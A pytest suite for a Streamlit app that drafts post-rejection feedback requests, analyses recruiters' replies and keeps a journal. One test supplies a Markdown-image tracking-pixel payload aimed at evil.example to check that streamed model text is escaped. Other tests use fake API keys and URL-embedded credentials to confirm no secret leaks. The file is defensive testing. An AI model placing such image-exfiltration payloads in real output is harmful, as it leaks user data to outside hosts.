"""The Streamlit app, headless: every page renders, each slider changes the draft, a labelled reply shows its categories, the journal keeps entries across sessions, and the API key never reaches the page."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from rebond import ui_text
from rebond.guidance import category_info
from rebond.models import AnalysisRequest, Channel, Draft, Language

ROOT = Path(__file__).resolve().parents[1]
PAGES = ["views/draft.py", "views/analyse.py", "views/journal.py", "views/settings.py"]
SLIDERS = ["tone_formality", "tone_warmth", "tone_directness", "tone_length"]
FAKE_KEY = "sk-test-REBOND-fake-key-9f8e7d6c5b4a"
FORM = {
    "draft_candidate_name": "Camille Tremblay",
    "draft_recruiter_name": "Mme Lefebvre",
    "draft_company": "Desjardins",
    "draft_role": "Analyste de données",
}


@pytest.fixture(autouse=True)
def offline_env(tmp_path, monkeypatch) -> Path:
    """A fresh journal per test, the offline engine, and no key or endpoint from the developer's shell."""
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "REBOND_MODEL", "REBOND_PRIVACY"):
        monkeypatch.delenv(name, raising=False)
    db = tmp_path / "journal.sqlite3"
    monkeypatch.setenv("REBOND_DB_PATH", str(db))
    monkeypatch.setenv("REBOND_ENGINE", "offline")
    monkeypatch.chdir(ROOT)
    return db


def _app() -> AppTest:
    return AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)


def _ok(at: AppTest) -> AppTest:
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    return at


def _filled(at: AppTest | None = None, **extra: str) -> AppTest:
    at = at or _app().run()
    for key, value in {**FORM, **extra}.items():
        widget = at.text_area(key=key) if key in ("draft_rejection_message", "draft_notes") else at.text_input(key=key)
        widget.input(value)
    return _ok(at.run())


def _body(at: AppTest) -> str:
    """The draft's body: the code block signed with the candidate's name."""
    bodies = [code.value for code in at.code if "Camille Tremblay" in code.value]
    assert bodies, "no draft on the page"
    return bodies[0]


def _open(at: AppTest, key: str) -> AppTest:
    """Open an expander built only while open (``common.remembered_expander``), as a click on it would."""
    at.session_state[key] = True
    return _ok(at.run())


def _expander(at: AppTest, title: str):
    [block] = [block for block in at.expander if block.label.startswith(title)]
    return block


def _texts(at: AppTest) -> str:
    """Every bit of text the page holds, as the protobufs sent to the browser carry it."""
    return "\n".join(str(getattr(node, "proto", "")) for node in _walk(at._tree))


def _walk(node) -> Iterator[object]:
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _walk(child)


# -- every page ----------------------------------------------------------------


@pytest.mark.parametrize("lang", ["fr", "en"])
@pytest.mark.parametrize("page", PAGES)
def test_every_page_renders_without_exception(page: str, lang: str) -> None:
    at = _app()
    at.query_params["lang"] = lang
    at.run()
    _ok(at.switch_page(page).run())
    assert at.title[0].value


def test_the_url_language_is_used_from_the_first_run() -> None:
    at = _app()
    at.query_params["lang"] = "en"
    _ok(at.run())
    assert at.title[0].value == "Ask for feedback"
    assert at.segmented_control(key="lang").value == "en"


def test_interface_is_french_by_default_and_switches_to_english() -> None:
    at = _ok(_app().run())
    assert at.title[0].value == "Demander une rétroaction"
    at.segmented_control(key="lang").set_value("en").run()
    _ok(at)
    assert at.title[0].value == "Ask for feedback"
    assert at.slider(key="tone_formality").label.startswith("Formality · Relaxed ↔ Very formal")


def test_every_interface_string_exists_in_both_languages_and_every_key_used_exists() -> None:
    keys = set(ui_text.keys())
    for key in keys:
        assert ui_text.t(key, "fr").strip() and ui_text.t(key, "en").strip(), key
    used = set()
    for path in [ROOT / "app.py", *(ROOT / "views").glob("*.py")]:
        used |= set(re.findall(r"""\bt\(["']([a-z_]+\.[a-z_.]+)["']""", path.read_text()))
    assert used - keys == set()
    for prefix, values in {"language": ["auto", "fr", "fr-FR", "en"], "channel": [str(c) for c in Channel]}.items():
        assert {f"{prefix}.{value}" for value in values} <= keys


# -- draft page ----------------------------------------------------------------


def test_the_draft_waits_for_the_required_fields() -> None:
    at = _ok(_app().run())
    assert "Votre nom" in at.info[0].value and "Organisation" in at.info[0].value
    assert not at.code


def test_the_draft_appears_with_checks_guidance_and_exports() -> None:
    at = _filled()
    body = _body(at)
    assert "Desjardins" in body and "Lefebvre" in body
    labels = [button.label for button in at.download_button]
    assert labels == ["Télécharger .txt", "Télécharger .eml"]
    assert any(link.proto.url.startswith("mailto:?subject=") for link in at.get("link_button"))
    # Checks and guidance start closed, with nothing built inside; every check failed would be in sight above them.
    checks = _expander(at, "Vérifications de qualité")
    assert re.fullmatch(r"Vérifications de qualité :(green|blue)-badge\[\d+/\d+ réussies\]", checks.label)
    why = _expander(at, "Pourquoi ce message fonctionne")
    assert not checks.children and not why.children
    assert "✓" not in "\n".join(m.value for m in at.markdown)
    assert "✓ Enregistré dans votre journal." in [c.value for c in at.caption]
    _open(_open(at, "draft_checks"), "draft_why")
    lines = _expander(at, "Vérifications de qualité").markdown[0].value
    assert "✓" in lines and " — " in lines
    assert _expander(at, "Pourquoi ce message fonctionne").markdown[0].value.startswith("- ")


@pytest.mark.parametrize("slider", SLIDERS)
def test_changing_each_slider_changes_the_draft(slider: str) -> None:
    at = _filled()
    at.slider(key=slider).set_value(0).run()
    low = _body(_ok(at))
    at.slider(key=slider).set_value(100).run()
    high = _body(_ok(at))
    assert low != high


def test_channel_language_and_another_version_change_the_draft() -> None:
    at = _filled()
    email = _body(at)
    at.segmented_control(key="draft_channel").set_value("linkedin").run()
    linkedin = _body(_ok(at))
    assert linkedin != email
    assert [button.label for button in at.download_button] == ["Télécharger .txt"]
    at.segmented_control(key="draft_language").set_value("en").run()
    english = _body(_ok(at))
    assert english != linkedin and "Desjardins" in english
    another = next(button for button in at.button if button.label == "Une autre version")
    another.click().run()
    assert _body(_ok(at)) != english
    assert at.session_state["draft_variant"] == 1


def test_an_automatic_rejection_is_explained() -> None:
    at = _filled(draft_rejection_message="Ceci est un message automatique, merci de ne pas répondre.")
    [info] = [i.value for i in at.info if "automatique" in i.value]
    assert "Ce refus semble automatique" in info
    assert "quelques minutes" in info  # the guidance on why asking is still worth it


def test_what_was_typed_survives_a_visit_to_another_page() -> None:
    at = _filled(draft_notes="Question difficile sur SQL.")
    at.slider(key="tone_warmth").set_value(80).run()
    at.switch_page("views/settings.py").run()
    at.switch_page("views/draft.py").run()
    _ok(at)
    assert at.text_input(key="draft_company").value == "Desjardins"
    assert at.text_area(key="draft_notes").value == "Question difficile sur SQL."
    assert at.slider(key="tone_warmth").value == 80


def test_a_draft_is_saved_and_a_new_session_resumes_it() -> None:
    first = _filled()
    first.slider(key="tone_length").set_value(100).run()
    body = _body(_ok(first))
    again = _ok(_app().run())  # a reload: new session, same journal
    assert again.text_input(key="draft_company").value == "Desjardins"
    assert again.slider(key="tone_length").value == 100
    assert _body(again) == body
    assert any("Repris de votre dernière candidature" in c.value for c in again.caption)
    next(b for b in again.button if b.label == "Nouvelle candidature").click().run()
    assert _ok(again).text_input(key="draft_company").value == ""


def test_the_interview_details_are_open_until_a_returning_visit_finds_the_form_complete() -> None:
    first = _ok(_app().run())  # a first visit: every field in sight
    assert _expander(first, "Détails de l'entrevue").children
    first = _filled(first, draft_notes="Question difficile sur SQL.")
    assert first.text_area(key="draft_notes").value == "Question difficile sur SQL."  # still open once complete

    again = _ok(_app().run())  # a reload: the journal fills the form, the details are closed and not built
    details = _expander(again, "Détails de l'entrevue")
    assert not details.children and not again.text_area
    assert again.text_input(key="draft_company").value == "Desjardins"  # the required fields stay in sight
    assert "Madame Lefebvre" in _body(again)  # the recruiter, a hidden detail, still shapes the draft
    _open(again, "draft_details")
    assert again.text_area(key="draft_notes").value == "Question difficile sur SQL."

    closed = _ok(_app().run())
    closed.text_input(key="draft_company").input("").run()  # a required field emptied: the details open
    assert _ok(closed).text_area(key="draft_notes").value == "Question difficile sur SQL."
    fresh = _ok(_app().run())
    next(b for b in fresh.button if b.label == "Nouvelle candidature").click().run()  # a new application: open
    assert _ok(fresh).text_area(key="draft_notes").value == ""

    refused = _ok(_app().run())  # a detail the contract refuses: the error names it, and it is in sight
    refused.session_state["draft_notes"] = "Question. " * 300
    refused.run()
    assert "Vos notes sur l'entrevue" in refused.error[0].value
    assert len(refused.text_area(key="draft_notes").value) == 3000


def test_a_failed_check_stays_in_sight_with_the_checks_closed(monkeypatch) -> None:
    import rebond.compose

    real = rebond.compose.compose

    def one_failed(request):
        draft = real(request)
        first = draft.checks.checks[0].model_copy(update={"passed": False, "reason": "Raison RBX-FAILED."})
        return draft.model_copy(update={"checks": draft.checks.model_copy(update={"checks": [first, *draft.checks.checks[1:]]})})

    monkeypatch.setattr(rebond.compose, "compose", one_failed)
    at = _filled()
    checks = _expander(at, "Vérifications de qualité")
    assert not checks.children
    [failed] = [m.value for m in at.markdown if "RBX-FAILED" in m.value]
    assert "✗ échoué" in failed
    assert re.search(r":blue-badge\[(\d+)/(\d+) réussies\]", checks.label)
    passed, total = map(int, re.search(r"(\d+)/(\d+)", checks.label).groups())
    assert passed == total - 1
    _open(at, "draft_checks")
    inside = _expander(at, "Vérifications de qualité").markdown[0].value
    assert inside.count("✓ réussi") == passed and "RBX-FAILED" not in inside


def test_errors_are_friendly_messages_not_tracebacks(monkeypatch) -> None:
    import rebond.compose

    def broken(request):
        raise RuntimeError("engine exploded")

    monkeypatch.setattr(rebond.compose, "compose", broken)
    at = _app().run()
    for key, value in FORM.items():
        at.text_input(key=key).input(value)
    at.run()
    assert not at.exception
    assert any("problème inattendu" in e.value for e in at.error)
    assert "engine exploded" not in _texts(at)


def test_write_with_ai_streams_then_shows_the_checked_draft(monkeypatch) -> None:
    import rebond.drafting

    monkeypatch.setenv("REBOND_ENGINE", "llm")
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    asked = []

    class FakeStream:
        def __init__(self, request):
            asked.append(request)
            self.result: Draft | None = None
            self.request = request

        def __iter__(self):
            yield "Bonjour, "
            yield "merci."
            self.result = Draft(
                subject="Rétroaction", body="Bonjour,\n\nTexte de l'IA.\n\nCamille Tremblay",
                channel=self.request.channel, language=Language.FR, engine="llm:fake-model",
                notices=["Version vérifiée."],
            )  # fmt: skip

    monkeypatch.setattr(rebond.drafting, "stream_draft", lambda request, settings=None, model=None: FakeStream(request))
    at = _filled()
    assert any("Aperçu hors ligne" in c.value for c in at.caption)
    offline = _body(at)
    next(b for b in at.button if b.label == "Écrire avec l'IA").click().run()
    _ok(at)
    assert _body(at) == "Bonjour,\n\nTexte de l'IA.\n\nCamille Tremblay" != offline
    assert asked and asked[0].context.company == "Desjardins"
    assert any("Version vérifiée." in i.value for i in at.info)
    assert FAKE_KEY not in _texts(at)
    # Moving a slider makes the AI text stale: the live offline preview comes back.
    at.slider(key="tone_length").set_value(0).run()
    assert "Texte de l'IA" not in _body(_ok(at))


def _streamed_preview(monkeypatch, pieces: list[str]) -> list[str]:
    """What the page hands to st.write_stream while a (fake) model streams these pieces."""
    import streamlit

    import rebond.drafting

    monkeypatch.setenv("REBOND_ENGINE", "llm")
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    shown: list[str] = []
    real_write_stream = streamlit.write_stream

    def recording(stream, *args, **kwargs):
        consumed = list(stream)
        shown.extend(consumed)
        return real_write_stream(iter(consumed), *args, **kwargs)

    class FakeStream:
        def __init__(self, request):
            self.request, self.result = request, None

        def __iter__(self):
            yield from pieces
            self.result = Draft(subject="Objet", body="Bonjour,\n\nTexte.\n\nCamille Tremblay", channel=self.request.channel,
                                language=Language.FR, engine="llm:fake-model")

    monkeypatch.setattr(streamlit, "write_stream", recording)
    monkeypatch.setattr(rebond.drafting, "stream_draft", lambda request, settings=None, model=None: FakeStream(request))
    at = _filled()
    next(b for b in at.button if b.label == "Écrire avec l'IA").click().run()
    _ok(at)
    return shown


def test_the_streamed_preview_is_escaped_like_every_model_text(monkeypatch) -> None:
    """A Markdown image in the model's text would be fetched by the browser while it streams (a tracking pixel)."""
    from views.common import md

    payload = ["Bonjour ![logo](http://evil.example/p.png?d=", "Camille) **gras** <b>x</b> [lien](", "http://evil.example)"]
    shown = _streamed_preview(monkeypatch, payload)
    # Escaping piece by piece is escaping the whole; links are left out, as the checked draft leaves them out.
    assert "".join(shown) == md("Bonjour ![logo]() **gras** <b>x</b> [lien]()")
    assert re.search(r"(?<!\\)[\[\]<>*]", "".join(shown)) is None  # no bracket, tag or star left bare


def test_the_streamed_preview_labels_the_subject_line_in_the_interface_language(monkeypatch) -> None:
    shown = _streamed_preview(monkeypatch, ["Subject: Rétro", "action *vite* <b>\n", "\nBonjour"])
    assert shown == ["**Objet** · Rétroaction \\*vite\\* \\<b\\>\n\n", "Bonjour"]


def test_a_model_answer_that_fails_the_checks_is_replaced_and_the_notice_shown(monkeypatch) -> None:
    """The real drafting pipeline with a scripted model: the page shows the offline draft and says why."""
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel

    import rebond.drafting
    from rebond.compose import compose

    monkeypatch.setenv("REBOND_ENGINE", "llm")
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    pleading = "Je vous en supplie, revenez sur votre décision, je ferai n'importe quoi."
    fake = GenericFakeChatModel(messages=iter([pleading] * 4))
    real = rebond.drafting.stream_draft
    monkeypatch.setattr(rebond.drafting, "stream_draft", lambda request, settings=None, model=None: real(request, settings, fake))
    at = _filled()
    next(b for b in at.button if b.label == "Écrire avec l'IA").click().run()
    _ok(at)
    draft = at.session_state["draft_ai_result"][1]
    assert draft.engine == "offline" and draft.notices
    assert _body(at) == compose(_request_of(at)).body
    assert any(draft.notices[0][:40] in i.value for i in at.info)
    assert "supplie" not in _body(at)


def _request_of(at: AppTest):
    from rebond.models import DraftRequest, InterviewContext, Tone

    state = at.session_state
    return DraftRequest(
        language=state["draft_language"], channel=state["draft_channel"], variant=state["draft_variant"],
        context=InterviewContext(**{key.removeprefix("draft_"): state[key] for key in FORM}),
        tone=Tone(**{name: state[f"tone_{name}"] for name in ("formality", "warmth", "directness", "length")}),
    )  # fmt: skip


# -- analyse page --------------------------------------------------------------


def _labelled_reply(reply_id: str) -> dict:
    for line in (ROOT / "evals" / "datasets" / "replies.jsonl").read_text(encoding="utf-8").splitlines():
        case = json.loads(line)
        if case["id"] == reply_id:
            return case
    raise LookupError(reply_id)


@pytest.mark.parametrize("reply_id", ["rep-009", "rep-029"])
def test_analysing_a_labelled_reply_shows_its_categories_and_is_saved(reply_id: str) -> None:
    from rebond.reading import read_reply

    case = _labelled_reply(reply_id)
    at = _app().run()
    at.switch_page("views/analyse.py").run()
    at.text_area(key="analyse_reply_text").input(case["reply"])
    next(b for b in at.button if b.label == "Analyser la réponse").click().run()
    _ok(at)
    page = "\n".join(m.value for m in at.markdown)
    expected = read_reply(AnalysisRequest(reply=case["reply"]))
    shown = {str(f.category) for f in expected.categories}
    assert set(case["expected"]["categories"]) <= shown
    for category in shown:
        assert f"**{category_info(category, 'fr')['label']}**" in page
    badges = _texts(at)
    assert "Constructive" in badges
    assert at.code and at.code[-1].value == expected.thank_you_reply
    assert len(at.checkbox) == len(expected.action_plan)
    assert any("Analyse enregistrée" in c.value for c in at.caption)


def _analyse(at: AppTest, reply: str) -> AppTest:
    at.switch_page("views/analyse.py").run()
    at.text_area(key="analyse_reply_text").input(reply)
    next(b for b in at.button if b.label == "Analyser la réponse").click().run()
    return _ok(at)


def test_a_demeaning_reply_citing_age_shows_the_kind_and_the_rights_pointer() -> None:
    from rebond.reading import read_reply

    case = _labelled_reply("rep-062")
    expected = read_reply(AnalysisRequest(reply=case["reply"]))
    assert expected.kind == "malicious" and expected.discrimination_warning
    at = _analyse(_app().run(), case["reply"])
    assert "Malveillante" in _texts(at)
    assert expected.discrimination_warning in [w.value for w in at.warning]


def test_the_last_analysis_comes_back_after_a_reload_and_is_saved_once(offline_env: Path) -> None:
    from rebond.journal import Journal

    case = _labelled_reply("rep-009")
    at = _analyse(_app().run(), case["reply"])
    next(b for b in at.button if b.label == "Analyser la réponse").click().run()  # same text again
    assert len(Journal(offline_env).analyses()) == 1
    again = _app().run()
    again.switch_page("views/analyse.py").run()
    _ok(again)
    assert again.text_area(key="analyse_reply_text").value == case["reply"]
    assert any("Reprise de votre dernière analyse" in c.value for c in again.caption)
    assert "Ce que la réponse pointe" in [h.value for h in again.subheader]
    next(b for b in again.button if b.label == "Nouvelle réponse").click().run()
    assert _ok(again).text_area(key="analyse_reply_text").value == ""
    assert "Ce que la réponse pointe" not in [h.value for h in again.subheader]


def test_an_empty_reply_asks_for_text() -> None:
    at = _app().run()
    at.switch_page("views/analyse.py").run()
    next(b for b in at.button if b.label == "Analyser la réponse").click().run()
    assert "Collez d'abord" in _ok(at).warning[0].value


# -- journal page --------------------------------------------------------------


def test_journal_saves_and_reloads_an_entry_with_its_chart(offline_env: Path) -> None:
    at = _filled()
    case = _labelled_reply("rep-009")
    at.switch_page("views/analyse.py").run()
    assert at.selectbox(key="analyse_application").value is not None  # linked to the draft being written
    at.text_area(key="analyse_reply_text").input(case["reply"])
    next(b for b in at.button if b.label == "Analyser la réponse").click().run()
    _ok(at)

    fresh = _app().run()  # another session reading the same database
    fresh.switch_page("views/journal.py").run()
    _ok(fresh)
    [entry] = [block for block in fresh.expander if "Desjardins · Analyste de données" in block.label]
    assert "réponse reçue" in entry.label
    assert len(fresh.get("vega_lite_chart")) == 2
    assert [m.value for m in fresh.metric][:3] == ["1", "0", "1"]
    assert any(button.label == "Exporter en CSV" for button in fresh.download_button)
    assert offline_env.exists()


def test_journal_reminds_to_follow_up_after_seven_days(offline_env: Path) -> None:
    import datetime as dt

    from rebond.journal import Journal

    _filled()
    journal = Journal(offline_env)
    [app] = journal.applications()
    journal.mark_sent(app.id, dt.date.today() - dt.timedelta(days=9))
    at = _app().run()
    at.switch_page("views/journal.py").run()
    reminders = [m.value for m in _ok(at).markdown if "sans réponse" in m.value]
    assert reminders and "il y a 9 jours" in reminders[0]
    next(b for b in at.button if b.key == f"journal_followup_reply_{app.id}").click().run()
    assert not [m.value for m in _ok(at).markdown if "sans réponse" in m.value]
    assert journal.application(app.id).reply_received  # type: ignore[union-attr]


def test_journal_delete_asks_for_confirmation() -> None:
    _filled()
    at = _app().run()
    at.switch_page("views/journal.py").run()
    delete = next(b for b in at.button if b.label == "Supprimer")
    delete.click().run()
    assert "C'est définitif" in _ok(at).warning[0].value
    next(b for b in at.button if b.label == "Annuler").click().run()
    assert not _ok(at).warning
    next(b for b in at.button if b.label == "Supprimer").click().run()
    next(b for b in at.button if b.label == "Oui, supprimer").click().run()
    _ok(at)
    assert not [block for block in at.expander if "Desjardins" in block.label]
    assert "vide" in at.info[-1].value


# -- settings page -------------------------------------------------------------


def test_settings_never_render_the_key(monkeypatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("OPENAI_BASE_URL", "https://user:hunter2@llm.example.com/v1?api-key=" + FAKE_KEY)
    monkeypatch.setenv("REBOND_ENGINE", "auto")
    at = _app().run()
    for page in PAGES:
        at.switch_page(page).run()
        _ok(at)
        text = _texts(at)
        assert FAKE_KEY not in text and FAKE_KEY[-12:] not in text, page
        assert "hunter2" not in text, page
    at.switch_page("views/settings.py").run()
    text = _texts(at)
    assert "Présente (jamais affichée)" in text
    assert "https://llm.example.com/v1" in text


def test_test_connection_without_a_model_says_so_plainly() -> None:
    at = _app().run()
    at.switch_page("views/settings.py").run()
    assert "Hors ligne" in _texts(at)
    next(b for b in at.button if b.label == "Tester la connexion").click().run()
    assert "Aucun modèle n'est configuré" in _ok(at).info[0].value


def test_test_connection_names_a_server_error_in_words(monkeypatch, openai_server) -> None:
    from rebond.testing import Answer

    monkeypatch.setenv("REBOND_ENGINE", "llm")
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("OPENAI_BASE_URL", openai_server.base_url)
    monkeypatch.setenv("REBOND_MAX_RETRIES", "0")
    openai_server.script(Answer.error(500, f"boom {FAKE_KEY}"))
    at = _app().run()
    at.switch_page("views/settings.py").run()
    next(b for b in at.button if b.label == "Tester la connexion").click().run()
    assert len(openai_server.requests) == 1
    assert not at.exception
    assert [e.value for e in at.error] == ["Le test a échoué : le service a eu une erreur interne (500)."]


def _closed_port_url() -> str:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{probe.getsockname()[1]}/v1"


@pytest.mark.parametrize(("fault", "message"), [
    ("401", "La clé d'API a été refusée. Vérifiez-la dans votre configuration."),
    ("403", "Le test a échoué : le service a refusé l'accès (403)."),
    ("404", "Le modèle « gpt-4.1-mini » est introuvable à ce point d'accès."),
    ("429", "Le service limite les requêtes pour l'instant ; réessayez dans un moment."),
    ("400", "Le test a échoué : le service a rejeté la requête (400)."),
    ("hang", "Pas de réponse en 0.5 s."),
    ("cut", "Le test a échoué : la connexion à {endpoint} s'est interrompue pendant la réponse."),
    ("error object", "Le test a échoué : le service a répondu par une erreur."),
    ("nobody", "Impossible de joindre {endpoint}."),
])
def test_test_connection_names_each_failure_in_words(monkeypatch, openai_server, fault: str, message: str) -> None:
    """Every way the openai client fails, over a real socket: the settings page's words, never the endpoint's text."""
    from rebond.testing import Answer

    answers = {
        "hang": Answer.hang(5),
        "cut": Answer.completion("OK " * 200).in_pieces(100).cut_after(1),
        "error object": Answer.json({"error": {"message": f"quota {FAKE_KEY}"}}),
    }
    endpoint = _closed_port_url() if fault == "nobody" else openai_server.base_url
    openai_server.script(answers.get(fault) or Answer.error(int(fault) if fault.isdigit() else 500, f"boom {FAKE_KEY}",
                                                              retry_after_ms="1"))
    for name, value in {"REBOND_ENGINE": "llm", "OPENAI_API_KEY": FAKE_KEY, "OPENAI_BASE_URL": endpoint,
                        "REBOND_MAX_RETRIES": "0", "REBOND_TIMEOUT": "0.5"}.items():
        monkeypatch.setenv(name, value)
    at = _app().run()
    at.switch_page("views/settings.py").run()
    next(b for b in at.button if b.label == "Tester la connexion").click().run()
    assert not at.exception
    assert [e.value for e in at.error] == [message.format(endpoint=endpoint)]
    assert FAKE_KEY not in " ".join(e.value for e in at.error)


UNSURE = "Honestly, what you told us about the warehouse move was not convincing enough."


def test_an_uncertain_reading_says_so_without_a_confident_badge() -> None:
    at = _analyse(_app().run(), UNSURE)
    assert any("Lecture incertaine" in w.value for w in at.warning)
    assert "lecture incertaine" in _texts(at)  # the badge reads "Générique ? (lecture incertaine)"
    assert not any(b.label == "Relire avec l'IA" for b in at.button)  # no model configured: no offer


def test_an_uncertain_offline_reading_offers_the_ai_reading_when_a_model_is_configured(monkeypatch) -> None:
    import rebond.reading
    from rebond.models import Confidence

    monkeypatch.setenv("OPENAI_BASE_URL", "http://localhost:9/v1")  # configured, but the engine stays offline
    real = rebond.reading.read_reply
    engines = []

    def fake_read(request, settings=None, model=None):
        engines.append(settings.engine if settings else None)
        analysis = real(request, settings.model_copy(update={"engine": "offline"}) if settings else None)
        if settings is not None and settings.engine == "llm":  # the model's second reading, without a network
            analysis = analysis.model_copy(
                update={"engine": "llm:fake", "confidence": Confidence.HIGH, "kind_confidence": Confidence.HIGH}
            )
        return analysis

    monkeypatch.setattr(rebond.reading, "read_reply", fake_read)
    at = _analyse(_app().run(), UNSURE)
    assert any("Une IA est configurée" in c.value for c in at.caption)
    next(b for b in at.button if b.label == "Relire avec l'IA").click().run()
    _ok(at)
    assert engines == ["offline", "llm"]
    assert at.session_state["analyse_result"][1].engine == "llm:fake"
    assert not any("Lecture incertaine" in w.value for w in at.warning)


def test_the_region_setting_names_its_rights_body() -> None:
    at = _app().run()
    at.switch_page("views/analyse.py").run()
    at.text_area(key="analyse_reply_text").input("You are too old for this team.")
    at.selectbox(key="analyse_reply_region").set_value("uk").run()
    next(b for b in at.button if b.label == "Analyser la réponse").click().run()
    _ok(at)
    assert any("EHRC" in w.value for w in at.warning)
    assert "Motif protégé : âge" in _texts(at)
